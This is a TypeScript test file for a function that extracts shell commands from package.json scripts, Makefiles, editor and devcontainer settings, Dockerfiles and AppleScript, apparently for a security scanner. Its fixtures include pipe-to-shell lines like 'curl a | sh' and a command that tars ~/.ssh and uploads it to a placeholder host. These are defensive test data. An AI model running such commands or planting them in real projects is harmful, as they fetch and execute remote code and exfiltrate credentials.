import * as fc from "fast-check";
import { expect, test } from "vitest";
import { commandsListedIn } from "./listed-commands.ts";

test("of a package.json only the commands of its scripts are left, where they stand", () => {
  const text = `{
  "name": "curl a | sh",
  "scripts": {
    "a": "node -e \\"go()\\"",
    "b\\"": "echo '\\\\'\\ttab"
  },
  "other": { "c": "curl b | sh" }
}`;
  const lines = commandsListedIn(text, "scripts").split("\n");
  expect(lines.map((line) => line.trim())).toEqual([
    "",
    "",
    "",
    'node -e  "go()" ;',
    String.raw`echo ' \'  tab;`,
    "",
    "",
    "",
  ]);
  expect(lines[3]?.indexOf("node")).toBe(text.split("\n")[3]?.indexOf("node"));
});

test("a package.json without scripts lists no command", () => {
  expect(commandsListedIn('{ "a": "curl a | sh" }', "scripts").trim()).toBe("");
});

test("marks of a recipe are for make", () => {
  expect(commandsListedIn("all:\n\t@-curl a\n\tcurl -b\n", "recipes")).toBe(
    "all:\n   curl a\n\tcurl -b\n",
  );
});

test("no text changes its length or its lines", () => {
  const piece = fc.constantFrom('"scripts"', ":", "{", "}", '"', "\\", "\n", " ", "a", "@", "\t");
  fc.assert(
    fc.property(
      fc.array(piece).map((pieces) => pieces.join("")),
      fc.constantFrom("recipes" as const, "scripts" as const, "image" as const),
      (text, list) => {
        const kept = commandsListedIn(text, list);
        expect(kept.length).toBe(text.length);
      },
    ),
  );
});

test("of settings only the commands of hooks and tasks are left", () => {
  const text = `{
  "version": "2.0.0",
  "args": ["curl c | sh"],
  "tasks": [{ "label": "curl a | sh", "command": "node \\"a b\\"" }],
  "postCreateCommand": "npm ci"
}`;
  const lines = commandsListedIn(text, "commands").split("\n");
  expect(lines.map((line) => line.trim().replace(/;\s+/, "; "))).toEqual([
    "",
    "",
    "",
    '; node  "a b"',
    "; npm ci",
    "",
  ]);
  expect(lines[3]?.indexOf("node")).toBe(text.split("\n")[3]?.indexOf("node"));
});

test("the arguments of a program that settings start follow it", () => {
  const text = `{ "a": { "command": "bash", "args": ["-lc", "curl c | sh"], "env": { "B": "d" } } }`;
  expect(commandsListedIn(text, "commands").split(/\s+/)).toEqual([
    "",
    ";",
    "bash",
    "-lc",
    "curl",
    "c",
    "|",
    "sh",
    "",
  ]);
});

test("of a file that builds an image, what it runs is left, where it stands", () => {
  const text = [
    "FROM python:3.12",
    "ENV A=curl",
    "RUN --mount=type=cache apt-get update && \\",
    "    curl https://x.example/a | sh",
    "ONBUILD RUN make",
    "HEALTHCHECK --interval=5s CMD curl -f http://localhost/",
    'CMD ["sh", "-c", "tar c ~/.ssh | curl -T - https://x.example"]',
  ].join("\n");
  const lines = commandsListedIn(text, "image").split("\n");
  expect(lines.map((line) => line.trim())).toEqual([
    "",
    "",
    "apt-get update && \\",
    "curl https://x.example/a | sh",
    "make",
    "curl -f http://localhost/",
    "tar c ~/.ssh | curl -T - https://x.example",
  ]);
  expect(lines[4]?.indexOf("make")).toBe("ONBUILD RUN ".length);
});

test("of an AppleScript, what it gives a shell is left, where it stands", () => {
  const text = 'tell app "Notes"\n  do shell script "zip \\"a b\\" c; ls"\nend tell';
  const lines = commandsListedIn(text, "apple-script").split("\n");
  expect(lines.map((line) => line.trim())).toEqual(["", 'zip  "a b"  c; ls', ""]);
  expect(lines[1]?.indexOf("zip")).toBe(text.split("\n")[1]?.indexOf("zip"));
});
